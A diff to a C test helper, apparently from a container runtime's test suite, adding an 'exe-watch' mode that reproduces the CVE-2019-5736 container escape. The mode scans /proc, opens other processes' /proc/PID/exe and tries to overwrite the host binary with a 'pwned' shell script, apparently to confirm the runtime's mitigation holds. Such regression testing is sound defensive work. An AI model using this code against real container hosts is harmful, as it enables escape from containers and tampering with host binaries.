@@ -13,6 +13,10 @@
  *   signal           prints "ready", waits for SIGINT or SIGTERM, prints its name, exits 130/143
  *   segv             dies of SIGSEGV (a real fault: even pid 1 cannot ignore it)
  *   udp-echo PORT    binds UDP PORT, prints "ready", answers each datagram with "echo:" + it
+ *   exe-watch        the CVE-2019-5736 attacker: watches /proc for new processes, opens each
+ *                    one's /proc/PID/exe, prints where an fd leads ("memfd T", "HOST T"; files
+ *                    of the container itself are skipped) and keeps trying to write through
+ *                    it, printing "WROTE T" if that ever works. Prints "watching" first.
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -24,7 +28,9 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <dirent.h>
 #include <sys/prctl.h>
+#include <sys/stat.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <unistd.h>
@@ -78,6 +84,68 @@ static const char *status_value(const char *key) {
 
 static volatile sig_atomic_t got;
 static void on_signal(int s) { got = s; }
+
+/* exe-watch (see the top): the attack on a host binary through /proc/PID/exe. */
+#define MAX_FDS 256
+static int held[MAX_FDS], nheld;
+static char seen[1 << 16];
+
+static void try_writes(void) {
+    for (int i = 0; i < nheld; i++) {
+        char path[64], target[512] = "";
+        if (held[i] < 0) continue;
+        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
+        if (readlink(path, target, sizeof target - 1) < 0) continue;
+        int w = open(path, O_WRONLY);
+        if (w < 0) continue; /* ETXTBSY while the binary runs, EPERM for a sealed memfd */
+        if (write(w, "#!/bin/sh\necho pwned\n", 21) == 21) printf("WROTE %s\n", target);
+        else printf("OPENED-FOR-WRITE %s\n", target);
+        fflush(stdout);
+        close(w);
+        close(held[i]);
+        held[i] = -1;
+    }
+}
+
+static void look(int pid, dev_t root_dev) {
+    char path[64], link[64], target[512] = "";
+    snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd < 0) return; /* not dumpable, or gone: try again on the next pass */
+    struct stat st;
+    if (fstat(fd, &st) == 0 && st.st_dev == root_dev) {
+        seen[pid] = 2; /* the container's own binary: the exec happened */
+        close(fd);
+        return;
+    }
+    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
+    if (readlink(link, target, sizeof target - 1) < 0) strcpy(target, "?");
+    printf("%s %s\n", strncmp(target, "/memfd:", 7) ? "HOST" : "memfd", target);
+    fflush(stdout);
+    seen[pid] = 2;
+    if (nheld < MAX_FDS) held[nheld++] = fd;
+    else close(fd);
+}
+
+static int exe_watch(void) {
+    struct stat rst;
+    if (stat("/", &rst) < 0) return 1;
+    int self = getpid();
+    puts("watching");
+    fflush(stdout);
+    for (;;) {
+        DIR *d = opendir("/proc");
+        if (!d) return 1;
+        struct dirent *e;
+        while ((e = readdir(d))) {
+            int pid = atoi(e->d_name);
+            if (pid <= 1 || pid == self || pid >= (int)sizeof seen || seen[pid] == 2) continue;
+            look(pid, rst.st_dev);
+        }
+        closedir(d);
+        try_writes();
+    }
+}
 
 int main(int argc, char **argv) {
     if (argc < 2) {
@@ -139,6 +207,8 @@ int main(int argc, char **argv) {
             ssize_t n = recvfrom(fd, buf + 5, sizeof buf - 5, 0, (struct sockaddr *)&from, &len);
             if (n >= 0) sendto(fd, buf, (size_t)n + 5, 0, (struct sockaddr *)&from, len);
         }
+    } else if (!strcmp(cmd, "exe-watch")) {
+        return exe_watch();
     } else if (!strcmp(cmd, "segv")) {
         fflush(stdout);
         *(volatile int *)0 = 1;
